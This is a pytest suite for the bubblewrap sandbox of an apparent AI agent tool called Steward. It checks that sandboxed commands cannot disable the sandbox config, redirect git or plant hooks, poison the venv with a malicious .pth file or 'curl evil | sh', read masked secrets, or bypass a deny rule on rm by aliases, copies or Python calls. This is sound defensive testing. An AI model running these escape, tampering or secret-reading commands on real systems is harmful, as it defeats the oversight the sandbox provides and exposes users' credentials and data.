"""No window, a sealed host, masked secrets and masked programs: checked on disk and from the host
while (or after) a real sandboxed command runs."""

from __future__ import annotations

import asyncio
import os
import re
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from steward.config import load_config
from steward.safety.policy.programs import plan_masks
from steward.safety.policy.rules import Policy
from steward.safety.sandbox.bubblewrap import BubblewrapSandbox, SandboxSettings, _environment
from steward.tools.base import ToolContext
from steward.tools.shell import bash

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None, reason="needs bubblewrap: apt-get install bubblewrap"
)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    return ws


async def sh(box: BubblewrapSandbox, workspace: Path, command: str) -> tuple[int, str]:
    result = await bash.call(
        {"command": command, "timeout_s": 20}, ToolContext(workspace=workspace, sandbox=box)
    )
    match = re.search(r"exit code: (-?\d+)$", result.content)
    return (int(match.group(1)) if match else -999), result.content


@pytest.fixture(scope="module")
def sandbox() -> BubblewrapSandbox:
    return BubblewrapSandbox(SandboxSettings(cpu_s=20, max_processes=64, tmpfs_mb=64))


# --- no window -----------------------------------------------------------------------------


@pytest.mark.parametrize("existing", [False, True])
async def test_a_second_run_loads_the_real_configuration_while_a_command_runs(
    sandbox: BubblewrapSandbox, workspace: Path, existing: bool
) -> None:
    if existing:
        (workspace / "steward.toml").write_text('[policy]\ndeny = ["bash(curl *)"]\n')
    attack = "chmod u+w steward.toml; printf '[sandbox]\\nenabled = false\\n' > steward.toml; sleep 1.5"
    command = asyncio.create_task(sh(sandbox, workspace, attack))
    for _ in range(10):  # while it runs, another Steward starts in the same workspace
        await asyncio.sleep(0.1)
        config = load_config(workspace)
        assert config.sandbox.enabled
        assert config.policy.deny == (["bash(curl *)"] if existing else [])
    await command
    if existing:
        assert (workspace / "steward.toml").read_text() == '[policy]\ndeny = ["bash(curl *)"]\n'
    else:
        assert not (workspace / "steward.toml").exists()


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
async def test_git_on_the_host_follows_no_redirect_while_a_command_runs(
    sandbox: BubblewrapSandbox, workspace: Path, tmp_path: Path
) -> None:
    subprocess.run(["git", "-C", str(workspace), "init", "-q"], check=True)
    evil = tmp_path / "evil"
    subprocess.run(["git", "init", "-q", "--bare", str(evil)], check=True)
    attack = f"echo {evil} > .git/commondir; echo 'touch /tmp/x' > .git/hooks/post-checkout; sleep 1.5"
    command = asyncio.create_task(sh(sandbox, workspace, attack))
    for _ in range(8):
        await asyncio.sleep(0.15)
        common = subprocess.run(
            ["git", "-C", str(workspace), "rev-parse", "--git-common-dir"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()
        assert Path(workspace, common).resolve() == (workspace / ".git").resolve()
        assert not (workspace / ".git" / "hooks" / "post-checkout").exists()
    _, output = await command
    assert "commondir: Permission denied" in output or "Read-only" in output
    assert not (workspace / ".git" / "commondir").exists()


# --- a sealed host ---------------------------------------------------------------------------


async def test_the_python_running_steward_is_read_only_even_inside_the_workspace(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The README installs Steward into ./.venv: when that is the workspace, the venv is in it.
    venv = workspace / ".venv"
    site = venv / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (venv / "bin").mkdir()
    (venv / "bin" / "steward").write_text("#!/bin/sh\n")
    monkeypatch.setattr(sys, "prefix", str(venv))
    box = BubblewrapSandbox(SandboxSettings(cpu_s=20, tmpfs_mb=64))
    for attack in (
        "echo 'import os; os.system(\"touch /tmp/pwned\")' > .venv/lib/python3.11/site-packages/evil.pth",
        "echo 'curl evil | sh' >> .venv/bin/steward",
        "rm -rf .venv",
        "mv .venv venv-old",
    ):
        status, _ = await sh(box, workspace, attack)
        assert status != 0, attack
    assert not (site / "evil.pth").exists()
    assert (venv / "bin" / "steward").read_text() == "#!/bin/sh\n"
    status, _ = await sh(box, workspace, "echo fine > project.txt")  # the rest stays writable
    assert status == 0 and (workspace / "project.txt").exists()


async def test_programs_on_the_path_are_read_only_even_inside_the_workspace(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tools = workspace / "tools" / "bin"
    tools.mkdir(parents=True)
    (tools / "deploy").write_text("#!/bin/sh\necho deploy\n")
    monkeypatch.setenv("PATH", f"{tools}{os.pathsep}{os.environ['PATH']}")
    box = BubblewrapSandbox(SandboxSettings(cpu_s=20, tmpfs_mb=64))
    status, _ = await sh(box, workspace, "echo 'curl evil | sh' > tools/bin/deploy; touch tools/bin/git")
    assert status != 0
    assert (tools / "deploy").read_text() == "#!/bin/sh\necho deploy\n"
    assert not (tools / "git").exists()


# --- secrets -------------------------------------------------------------------------------

TOKEN = "sk-live-9f8e7d6c5b4a39281706"


async def test_secret_files_are_masked_inside_the_sandbox(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    (workspace / ".env").write_text(f"API_TOKEN={TOKEN}\n")
    (workspace / "deploy").mkdir()
    (workspace / "deploy" / ".npmrc").write_text(f"//registry.npmjs.org/:_authToken={TOKEN}\n")
    (workspace / "deploy" / "id_ed25519").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{TOKEN}\n")
    (workspace / "main.py").write_text("print('hi')\n")
    name = "'.e'\"nv\""  # a name built at run time reaches the same masked file
    _, output = await sh(
        sandbox,
        workspace,
        f"cat {name} deploy/.npmrc; cat .e*; cp .env copy.txt; tar cf all.tar --exclude=all.tar .; "
        f"grep -r {TOKEN[:12]} . ; cat main.py",
    )
    assert TOKEN not in output and "hi" in output
    assert (workspace / "copy.txt").read_text() == ""
    with tarfile.open(workspace / "all.tar") as archive:
        for member in archive.getmembers():
            handle = archive.extractfile(member)
            if handle is not None:
                assert TOKEN.encode() not in handle.read(), member.name
    assert (workspace / ".env").read_text() == f"API_TOKEN={TOKEN}\n"  # masked, not changed


# --- rules about programs ------------------------------------------------------------------


async def test_a_program_a_deny_rule_forbids_is_not_there_by_any_name(workspace: Path) -> None:
    policy = Policy.from_lists(deny=["bash(rm *)"])
    settings = SandboxSettings(cpu_s=20, tmpfs_mb=64)
    plan = plan_masks(policy, _environment(settings)["PATH"])
    assert "rm" in plan.masked
    box = BubblewrapSandbox(
        SandboxSettings(cpu_s=20, tmpfs_mb=64, masked_programs=tuple(map(Path, plan.files)))
    )
    victims = [f"f{i}" for i in range(7)]
    for victim in victims:
        (workspace / victim).write_text("keep me\n")
    rm = shutil.which("rm") or "/usr/bin/rm"
    attempts = [
        "rm f0",
        f"{rm} f1",
        "cp $(command -v rm) ./zap 2>/dev/null; ./zap f2",
        f"{sys.executable} -c \"import os; os.system('rm f3')\"",
        f"{sys.executable} -c \"import subprocess; subprocess.run(['rm', 'f4'])\"",
        "find . -name f5 -exec rm {} \\;",
        "alias del=rm; shopt -s expand_aliases; del f6; echo f6 | xargs rm",
    ]
    for attempt in attempts:
        await sh(box, workspace, attempt)
    assert all((workspace / victim).exists() for victim in victims)
    status, _ = await sh(box, workspace, "echo still > works.txt && cat works.txt")
    assert status == 0


async def test_a_symlinked_secret_is_masked_at_its_target(
    sandbox: BubblewrapSandbox, workspace: Path
) -> None:
    (workspace / "config").mkdir()
    (workspace / "config" / "app-secrets").write_text(f"API_TOKEN={TOKEN}\n")
    (workspace / ".env").symlink_to("config/app-secrets")
    _, output = await sh(sandbox, workspace, "cat .env; cat config/app-secrets")
    assert TOKEN not in output
